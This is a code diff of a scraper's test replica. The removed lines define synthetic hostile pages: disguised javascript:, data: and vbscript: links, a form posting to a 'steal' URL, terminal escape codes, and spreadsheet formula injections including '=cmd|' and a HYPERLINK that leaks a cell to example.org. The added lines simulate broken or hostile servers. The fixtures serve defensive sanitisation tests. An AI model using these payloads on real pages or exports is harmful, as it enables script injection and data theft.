@@ -1,145 +1,174 @@
-"""Hostile pages for the security tests (``SiteConfig(hostile=True)``): SYNTHETIC, not seen on
-the live site. Each reproduces a known way a page attacks its reader:
+"""A hostile or broken copy of the site, switched on between crawls (``ReplicaServer``'s
+``hostility``): the situations that once made the archive mark live posts removed, wipe
+their categories or never stop.
 
-- ``hostile_markup``: links a browser runs as scripts although they do not start with
-  ``javascript:`` (a control character or a tab before or inside the scheme, as the WHATWG
-  URL parser allows), ``data:`` and ``vbscript:`` links, ``<img src="javascript:...">``
-  (forms from OWASP's XSS filter evasion cheat sheet), a ``<form>`` and an ``<object>`` around
-  answer text, and ESC/OSC/CSI bytes (raw and as ``&#27;``) that rewrite a terminal's title or
-  screen;
-- ``formula_title``: a title, question and answer that a spreadsheet runs as formulas
-  (``=HYPERLINK``, ``=cmd|``, ``@``: OWASP's CSV Injection page);
-- ``windows_1252``: a post page honestly served as windows-1252 (in the HTTP header, with no
-  meta charset), whose text is right only when decoded with the declared charset.
+SYNTHETIC, never observed on the live site; each reproduces a way real hosts misbehave:
 
-The ground truth is what a careful archive stores: the words of every element, no control
-character, no link but the safe ones.
+- ``empty_listings``: every listing page (index, ``previous/N``, archive months, categories)
+  answers 200 with a "down for maintenance" page that shows no posts;
+- ``meta_refresh``: the first answer on every page carries ``<meta http-equiv="refresh">``
+  pointing off the site (pasted markup: browsers and Scrapy's MetaRefreshMiddleware follow it).
+  The page's ``<head>`` is cut to its title (a lean theme), so the tag falls within the first
+  4,096 characters, all Scrapy's middleware scans;
+- ``robots_disallow``: extra ``Disallow:`` lines in robots.txt (a robots.txt change);
+- ``loop_posts``: the N oldest posts' URLs redirect to themselves through a second URL;
+- ``off_origin``/``off_origin_posts``: the next N oldest posts redirect to the same path on
+  ``off_origin`` (another origin: another port on 127.0.0.1 is enough);
+- ``long_url_posts``: the listings link the next N oldest posts through a URL of 3,000
+  characters (their sitemap entry keeps the right URL);
+- ``endless_pagination``: the index's last page links an older page, which repeats it, and so
+  on without end;
+- ``listing_flood``: the index's first page shows this many extra posts (thousands) that
+  exist nowhere else;
+- ``hollow_posts``: the N newest posts' own pages render an empty ``div.blog-content`` (a
+  broken theme): the answer and signature vanish, the listings still show them whole.
 """
 
 from __future__ import annotations
 
-from msqa_scraper.replica.body import Features, PostBody, signature
-from msqa_scraper.replica.nodes import Anchor, Block, Para, Text
-from msqa_scraper.replica.people import EXPERTS
+import re
+from dataclasses import dataclass
 
-HOSTILE_KINDS = ("hostile_markup", "formula_title", "windows_1252")
+from msqa_scraper.replica.config import BLOG_PATH
+from msqa_scraper.replica.feeds import robots
+from msqa_scraper.replica.model import Site
+from msqa_scraper.replica.routes import HTML, Response
 
-FORMULA_TITLE = '=HYPERLINK("http://example.org/results?id="&A1,"See your MRI results")'
-WINDOWS_1252 = "windows-1252"
-WINDOWS_1252_TEXT = "Sjögren’s café"
-
-# The URLs a stored answer must never hold (checked by tests/test_hostile_crawl.py).
-DANGEROUS_HREFS = (
-    "&#1;javascript:alert(document.domain)",
-    "java&#9;script:alert(2)",
-    " \x01javascript:alert(3)",
-    "data:text/html;base64,PHNjcmlwdD5hbGVydCg0KTwvc2NyaXB0Pg==",
-    "vbscript:msgbox(5)",
+MAINTENANCE_PAGE = (
+    "<!DOCTYPE html>\n<html><head><title>Down for maintenance</title></head><body>"
+    '<div id="wsite-content"><h2>We will be back soon</h2><p>The site is being updated. '
+    "Please check back in a few minutes.</p></div></body></html>\n"
 )
-SAFE_LINK = "https://example.org/ms/safe-browsing"
+REFRESH_TARGET = "http://elsewhere.invalid/moved-for-good"
+_LISTING = re.compile(re.escape(BLOG_PATH) + r"(?:\.html)?(?:/(?:previous|archives|category)/.*)?")
+_PREVIOUS = re.compile(re.escape(BLOG_PATH) + r"/previous/(\d+)")
+_CONTENT = '<div class="blog-content">'
+_POSTS_START = '<div id="wsite-content">'
+_NAV_PREVIOUS = re.compile(r'<div class="blog-page-nav-previous">.*?</div>\s*', re.S)
+_BID = "<!-- bid:"
+LOOP_QUERY = "?from=loop"
+_HEAD = re.compile(r"<head\b.*?</head>", re.S | re.I)
+_TITLE = re.compile(r"<title>.*?</title>", re.S | re.I)
 
 
-def _p(*nodes: Text | Anchor) -> Para:
-    return Para(tuple(nodes))
+@dataclass(frozen=True)
+class Hostility:
+    empty_listings: bool = False
+    meta_refresh: bool = False
+    robots_disallow: tuple[str, ...] = ()
+    loop_posts: int = 0
+    off_origin: str | None = None
+    off_origin_posts: int = 0
+    long_url_posts: int = 0
+    endless_pagination: bool = False
+    listing_flood: int = 0
+    hollow_posts: int = 0
+
+    @property
+    def active(self) -> bool:
+        return self != Hostility()
 
 
-def _link(words: str, href: str) -> Text:
-    """Words in a link whose URL must be dropped: the words stay, the link does not."""
-    return Text(words, f'<a href="{href}">{words}</a>')
+def hostile_slugs(site: Site, hostility: Hostility) -> dict[str, list[str]]:
+    """Which posts each redirecting/long-URL knob hits (the oldest first)."""
+    oldest = [spec.slug for spec in reversed(site.posts)]
+    out: dict[str, list[str]] = {}
+    start = 0
+    for name, count in (
+        ("loop", hostility.loop_posts),
+        ("off_origin", hostility.off_origin_posts if hostility.off_origin else 0),
+        ("long_url", hostility.long_url_posts),
+    ):
+        out[name] = oldest[start : start + count]
+        start += count
+    return out
 
 
-def hostile_body(kind: str, features: Features, experts: tuple[int, ...]) -> PostBody:
-    question: Para
-    answer: tuple[Block, ...]
-    if kind == "hostile_markup":
-        question = _p(
-            Text("My son says a link on a web page can take over a computer. Can a page about"),
-            Text(" MS do that? "),
-            # OSC 0 sets the terminal title; BEL ends it. Stored text keeps only the words.
-            Text("]0;Virtual MS Center", "\x1b]0;Virtual MS Center\x07"),
-        )
-        answer = (
-            _p(
-                Text("Only if the page is written to attack its readers. Links such as "),
-                _link("this one", DANGEROUS_HREFS[0]),
-                Text(", "),
-                _link("that one", DANGEROUS_HREFS[1]),
-                Text(", "),
-                _link("a third", DANGEROUS_HREFS[2]),
-                Text(", "),
-                _link("a data link", DANGEROUS_HREFS[3]),
-                Text(" and "),
-                _link("a vbscript link", DANGEROUS_HREFS[4]),
-                Text(" run a program instead of opening a page."),
-                Text("", '<img src="javascript:alert(6)" alt="">'),
-            ),
-            _p(
-                Text("Before the form "),
-                Text(
-                    "the words inside the form",
-                    '<form action="http://example.org/steal" method="post">'
-                    "the words inside the form</form>",
-                ),
-                Text(" and the words after it all belong to the answer."),
-            ),
-            _p(
-                Text("An old plugin box "),
-                Text(
-                    "keeps its fallback words",
-                    '<object data="x.swf">keeps its fallback words</object>',
-                ),
-                Text(" too."),
-            ),
-            _p(
-                Text("Colour codes "),
-                Text("[31mred[0m", "\x1b[31mred\x1b[0m"),
-                Text(" and screen codes "),
-                Text("[2J", "&#27;[2J"),
-                Text(" are stripped. Text such as <svg onload=print()> stays text."),
-                Text(" Read more about "),
-                Anchor(SAFE_LINK, (Text("safe browsing"),)),
-                Text("."),
-            ),
-        )
-    elif kind == "formula_title":
-        question = _p(
-            Text("=cmd|' /C calc'!A0 appeared in my patient portal instead of my name. Is my"),
-            Text(" record safe?"),
-        )
-        answer = (
-            _p(
-                Text("@SUM(1+1) and =HYPERLINK are what a spreadsheet reads as formulas. Your"),
-                Text(" record is safe; the portal only showed text a program forgot to escape."),
-            ),
-            _p(Text("+1 to asking the clinic to correct it.")),
-        )
-    elif kind == "windows_1252":
-        question = _p(
-            Text("I have dry eyes and a dry mouth as well as MS. Could it be Sjögren’s — and"),
-            Text(" does it change my treatment?"),
-        )
-        answer = (
-            _p(
-                Text("It can be both. Sjögren’s syndrome is more common in people with MS, and it"),
-                Text(" can look like MS on an MRI. A blood test and an eye test tell them apart."),
-            ),
-            _p(
-                Text(f"Our patients meet at the {WINDOWS_1252_TEXT}, a monthly support group:"),
-                Text(" bring your questions — and your neurologist’s notes."),
-            ),
-        )
-    else:
-        raise KeyError(kind)
-    lines, signed = signature(tuple(EXPERTS[i] for i in experts), "lines", False)
-    return PostBody(question, answer, lines, signed, features)
+def long_path(slug: str) -> str:
+    return f"{BLOG_PATH}/{slug}-{'x' * 3000}"
 
 
-_META_CHARSET = '<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />'
+def index_pages(site: Site) -> int:
+    return max(1, -(-len(site.posts) // site.config.per_page))
 
 
-def encode_page(markup: str) -> bytes:
-    """The windows-1252 page's bytes. Its charset is declared only in the HTTP header, as many
-    servers do (Apache's AddDefaultCharset): only a reader that honours the header gets the
-    text right. Characters windows-1252 lacks become character references."""
-    assert _META_CHARSET in markup
-    return markup.replace(_META_CHARSET, "").encode("cp1252", "xmlcharrefreplace")
+def before(hostility: Hostility, site: Site, host: str, path: str, query: str) -> Response | None:
+    """A response that replaces the site's own for this request, if any."""
+    slugs = hostile_slugs(site, hostility)
+    tail = path.removeprefix(BLOG_PATH + "/")
+    if tail in slugs["loop"]:
+        # A -> A?from=loop -> A -> ...: a redirect loop through two URLs.
+        target = path if query == LOOP_QUERY.lstrip("?") else path + LOOP_QUERY
+        return _redirect(f"http://{host}{target}")
+    if tail in slugs["off_origin"] and hostility.off_origin:
+        return _redirect(hostility.off_origin.rstrip("/") + path)
+    if hostility.empty_listings and _LISTING.fullmatch(path):
+        return Response(200, MAINTENANCE_PAGE.encode())
+    if path == "/robots.txt" and hostility.robots_disallow:
+        rules = (*site.config.robots_disallow, *hostility.robots_disallow)
+        return Response(200, robots(host, rules).encode(), "text/plain; charset=utf-8")
+    return None
+
+
+def page_for(hostility: Hostility, site: Site, path: str) -> str:
+    """The path whose page the server renders: past the index's end, its last page."""
+    if hostility.endless_pagination and (m := _PREVIOUS.fullmatch(path)):
+        last = index_pages(site)
+        if int(m[1]) > last and last > 1:
+            return f"{BLOG_PATH}/previous/{last}"
+        if int(m[1]) > last:
+            return BLOG_PATH
+    return path
+
+
+def after(hostility: Hostility, site: Site, host: str, path: str, response: Response) -> Response:
+    """The site's response, made hostile."""
+    if response.status != 200 or not response.content_type.startswith("text/html"):
+        return response
+    body = response.body.decode("utf-8", "surrogateescape")
+    if hostility.meta_refresh and _CONTENT in body:
+        meta = f'<meta http-equiv="refresh" content="0; url={REFRESH_TARGET}">'
+        body = body.replace(_CONTENT, _CONTENT + meta, 1)
+        title = _TITLE.search(body)
+        lean = f'<head><meta charset="utf-8">{title[0] if title else ""}</head>'
+        body = _HEAD.sub(lambda _: lean, body, count=1)
+    slugs = hostile_slugs(site, hostility)
+    hollow = {spec.slug for spec in site.posts[: hostility.hollow_posts]}
+    if path.removeprefix(BLOG_PATH + "/") in hollow:
+        body = body.replace(_CONTENT, _CONTENT + '</div><div class="old-content">', 1)
+    for slug in slugs["long_url"]:
+        if _LISTING.fullmatch(path):
+            body = body.replace(f'{BLOG_PATH}/{slug}"', f'{long_path(slug)}"')
+    index_page = 1 if path in (BLOG_PATH, BLOG_PATH + ".html") else None
+    if m := _PREVIOUS.fullmatch(path):
+        index_page = int(m[1])
+    if hostility.endless_pagination and index_page is not None:
+        last = index_pages(site)
+        if index_page >= last:
+            nav = (
+                '\t<div class="blog-page-nav-previous">\n'
+                f'\t\t<a href="{BLOG_PATH}/previous/{index_page + 1}" class="blog-link">'
+                "&lt;&lt;Previous</a>\n\t</div>\n"
+            )
+            body = _NAV_PREVIOUS.sub("", body).replace(_BID, nav + _BID, 1)
+    if hostility.listing_flood and index_page == 1:
+        blocks = "".join(_flood_block(host, n) for n in range(hostility.listing_flood))
+        body = body.replace(_POSTS_START, _POSTS_START + blocks, 1)
+    return Response(200, body.encode("utf-8", "surrogateescape"), HTML)
+
+
+def _flood_block(host: str, n: int) -> str:
+    slug = f"flooded-post-{n}"
+    return (
+        f'<div id="blog-post-9{n:017d}" class="blog-post"><div class="blog-header">'
+        f'<h2 class="blog-title"><a class="blog-title-link blog-link" '
+        f'href="//{host}{BLOG_PATH}/{slug}">Flooded post {n}</a></h2>'
+        '<p class="blog-date"><span class="date-text">9/1/2024</span></p></div>'
+        f'<div class="blog-content"><div class="paragraph">Q: question {n}? A: none.</div>'
+        "</div></div>\n"
+    )
+
+
+def _redirect(location: str) -> Response:
+    body = f'<html><body>Moved to <a href="{location}">{location}</a></body></html>\n'
+    return Response(301, body.encode(), location=location)
